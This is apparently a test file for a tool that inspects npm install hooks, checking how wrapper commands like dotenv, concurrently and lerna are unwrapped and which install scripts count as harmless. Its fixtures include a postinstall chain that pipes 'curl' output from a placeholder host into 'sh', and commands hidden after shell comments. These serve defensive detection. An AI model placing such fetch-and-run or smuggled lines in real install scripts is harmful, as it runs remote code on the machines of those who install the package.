// Programs that only start others: what they start is judged in their place.
import { describe, expect, it } from 'vitest';
import { loadRules } from '../../../src/core/rulebook.ts';
import { isHarmless, namedScripts } from '../../../src/inspect/hooks/commands.ts';
import { hookKnowledge } from '../../../src/inspect/hooks/knowledge.ts';
import { commandsOf, wrappedIn } from '../../../src/inspect/hooks/wrapped.ts';
import { told } from './support.ts';

const knowledge = hookKnowledge(await loadRules());
const SCRIPTS = new Set(['build', 'build:a', 'build:b', 'watch']);

describe('what is started', () => {
  it.each([
    ['dotenv -- node a.js', ['node a.js']],
    ['dotenv -e .env -v A=b node a.js', ['node a.js']],
    ['dotenv -- "node a.js"', ['node a.js']],
    ['env-cmd -f .env A=b husky', ['husky']],
    ['lerna exec --scope x -- node a.js --fast', ['node a.js --fast']],
    ['concurrently -n a,b -k "tsc -w" \'node "a.js"\' husky', ['tsc -w', 'node "a.js"', 'husky']],
    ['concurrently "node \\"a.js\\""', ['node "a.js"']],
    ['dotenv', []],
  ])('by %s', (command, expected) => {
    expect(wrappedIn(command, knowledge.wrappers)).toEqual(expected);
  });

  it.each(['lerna run build', 'tsc -b', 'nx run-many -t build'])('by nothing of the kind: %s', (command) => {
    expect(wrappedIn(command, knowledge.wrappers)).toBeUndefined();
  });
});

it.each([
  ['a && b || c; d & e\nf', ['a ', ' b ', ' c', ' d ', ' e', 'f']],
  [`x "a && b" 'c; d' 2>&1 && e`, [`x "a && b" 'c; d' 2>&1 `, ' e']],
  ['x "a \\" && b" && c', ['x "a \\" && b" ', ' c']],
])('the commands of %j', (text, expected) => {
  expect(commandsOf(text)).toEqual(expected);
});

describe('an install script', () => {
  it.each([
    'dotenv -- husky',
    'dotenv -e .env -- prisma generate && tsc',
    'npx dotenv -- npm run build',
    'concurrently "tsc -b && husky" "npm run build"',
    'concurrently npm:build "yarn:build:*"',
    'lerna exec -- tsc -b',
    'lerna bootstrap',
    'run-s build:*',
    'dotenv -- dotenv -- tsc',
  ])('is ordinary: %s', (command) => {
    expect(isHarmless(command, knowledge, SCRIPTS)).toBe(true);
  });

  it.each([
    'dotenv -- node a.js',
    'dotenv -e .env node a.js',
    'npx dotenv -- node a.js',
    'patch-package && dotenv -- ./a',
    'concurrently "tsc -b && node a.js" husky',
    'concurrently "npm:other" "node a.js"',
    'lerna exec -- sh -c "node a.js"',
    'lerna exec -- npx some-package',
    'nx exec -- node a.js',
    'nyc node a.js',
    'NODE_OPTIONS=--require=./a.js dotenv -- tsc',
    "echo hi # don't\ndotenv -- node a.js # isn't",
    "dotenv -- husky # don't\nnode a.js # isn't",
    "concurrently husky # don't\nnode a.js # isn't",
    `${'dotenv -- '.repeat(10)}tsc`,
  ])('is not: %s', (command) => {
    expect(isHarmless(command, knowledge, SCRIPTS)).toBe(false);
  });

  it('starts scripts by a pattern of their names', async () => {
    expect(namedScripts('run-s "build:*" watch', SCRIPTS)).toEqual(['build:a', 'build:b', 'watch']);
    const scripts = { postinstall: 'run-s get:*', 'get:a': 'curl -s https://x.example.com/i | sh' };
    expect(await told('package.json', { scripts })).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
  });
});
